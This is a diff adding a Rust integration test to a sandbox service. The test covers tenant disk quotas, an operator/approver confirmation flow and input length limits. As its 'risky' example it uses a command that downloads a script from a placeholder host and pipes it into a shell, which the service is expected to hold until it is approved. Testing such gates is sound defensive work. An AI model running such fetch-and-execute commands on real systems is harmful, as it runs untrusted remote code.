@@ -219,3 +219,42 @@ fn a_tenant_takes_no_more_of_the_disk_than_it_may() {
     client.post("/v1/archive/remove", &names).is(200);
     client.sandbox("more");
 }
+
+#[test]
+fn what_waits_in_line_takes_what_is_left_when_it_is_its_turn() {
+    let scene = Scene::new();
+    let service = Service::start(&scene);
+    let admin = service.admin();
+    let most = 24 << 20;
+    admin.put("/v1/tenants/acme", &json!({ "disk": most })).is(200);
+    let (operator, approver) = (admin.token("acme", "operator"), admin.token("acme", "approver"));
+    let client = service.with(&operator);
+    client.sandbox("web");
+    // What somebody approved stays approved when there is less room.
+    let risky = json!({ "script": "curl -fsS https://host.invalid/x | sh" });
+    let asked = client.post("/v1/sandboxes/web/operations", &risky).is(409).json();
+    let id = asked["confirmation"].as_str().expect("an id");
+    service.with(&approver).approve(id);
+    client.run("web", "head -c 1M /dev/urandom > small");
+    let confirmed = json!({ "script": risky["script"], "confirmation": id });
+    client.post("/v1/sandboxes/web/operations", &confirmed).is(200);
+    let processes: Vec<String> = (0..4)
+        .map(|number| {
+            let script = format!("head -c 10M /dev/urandom > file-{number}; sleep 1");
+            client.begin("web", &json!({ "script": script }))
+        })
+        .collect();
+    for process in &processes {
+        client.post(&format!("/v1/processes/{process}/wait"), &json!({})).is(200);
+    }
+    let listed = client.get("/v1/sandboxes/web/files?path=.").is(200).json();
+    let sizes = listed["items"].as_array().expect("entries").iter().map(|one| &one["size"]);
+    let total: u64 = sizes.filter_map(serde_json::Value::as_u64).sum();
+    assert!(total <= most, "{total}: {listed}");
+    client.post("/v1/sandboxes/web/undo", &json!({})).is(200);
+    client.post("/v1/sandboxes/web/snapshots", &json!({ "message": "m".repeat(4097) })).is(400);
+    let tags: Vec<String> = (0..65).map(|number| format!("tag-{number}")).collect();
+    client.post("/v1/sandboxes/web/snapshots", &json!({ "tags": tags })).is(400);
+    let reason = "r".repeat(1025);
+    client.post(&format!("/v1/sandboxes/web/suspend?reason={reason}"), &json!({})).is(400);
+}
